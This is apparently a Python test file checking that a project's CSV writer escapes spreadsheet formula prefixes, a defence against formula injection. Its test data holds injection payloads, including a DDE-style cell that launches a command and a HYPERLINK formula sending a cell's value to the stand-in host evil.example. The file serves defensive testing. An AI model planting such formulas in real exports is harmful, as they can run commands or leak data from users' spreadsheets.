"""CSV files escape formula prefixes, wherever the project writes one (issue 17 §4)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from stepstones import csvsafe
from stepstones.cli import main

SRC = Path(__file__).resolve().parent.parent / "src" / "stepstones"

# (cell, what the file must hold, why)
CELLS: list[tuple[Any, Any, str]] = [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")', "a formula"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", "plus starts a formula"),
    ("-2+3", "'-2+3", "minus starts a formula"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)", "at starts a function"),
    ("\t=1+1", "'\t=1+1", "a tab before a formula"),
    ("\r=1+1", "'\r=1+1", "a carriage return before a formula"),
    ("a=1", "a=1", "an equals sign inside is text"),
    (" =1", " =1", "a leading space makes it text already"),
    ("", "", "empty stays empty"),
    ("Offer 42", "Offer 42", "ordinary text"),
    ("'=1", "'=1", "already escaped"),
    (-3, -3, "a number is written as a number"),
    (0.25, 0.25, "a float too"),
    (None, None, "no value"),
]


@pytest.mark.parametrize(("cell", "stored", "why"), CELLS, ids=[c[2] for c in CELLS])
def test_it_escapes_a_cell_a_spreadsheet_would_run(cell: Any, stored: Any, why: str) -> None:
    assert csvsafe.escape_cell(cell) == stored, why


@pytest.mark.parametrize(("cell", "stored", "why"), CELLS, ids=[c[2] for c in CELLS])
def test_the_writer_writes_the_escaped_cell(cell: Any, stored: Any, why: str) -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerows([["id", cell]])
    read = next(csv.reader(io.StringIO(out.getvalue())))
    assert read == ["id", "" if stored is None else str(stored)], why


# Where the project writes CSV without csvsafe, and why that is safe. These files belong to the
# statistics work in progress: exports.py escapes with the same rule; the HTCDS file
# is read back by the import and must be escaped with an unescape on the way in (left to it).
ELSEWHERE = {
    "stats/exports.py": "escapes every cell itself with the same prefixes",
    "stats/htcds.py": "HTCDS exchange file: to be moved to csvsafe with its import",
}


def test_no_module_writes_csv_without_escaping() -> None:
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(SRC))
        for path in sorted(SRC.rglob("*.py"))
        if path.name != "csvsafe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert [f for f in found if f not in ELSEWHERE] == []


@pytest.mark.django_db
def test_check_offers_escapes_an_id_that_would_run_as_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text"])
        writer.writerow(['=HYPERLINK("http://evil.example/?"&A1)', "Warehouse work in Germany."])
        writer.writerow(["@cmd", "Fee 250 EUR before departure, WhatsApp only."])
        writer.writerow(["plain-1", "Acme Ltd hires a developer in London."])
    out = tmp_path / "out.csv"
    main(["check-offers", str(source), "-o", str(out), "--no-reported", "--no-progress"])
    assert "checked 3 offers" in capsys.readouterr().err
    ids = [row["id"] for row in csv.DictReader(out.open(encoding="utf-8"))]
    assert ids == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'@cmd", "plain-1"]
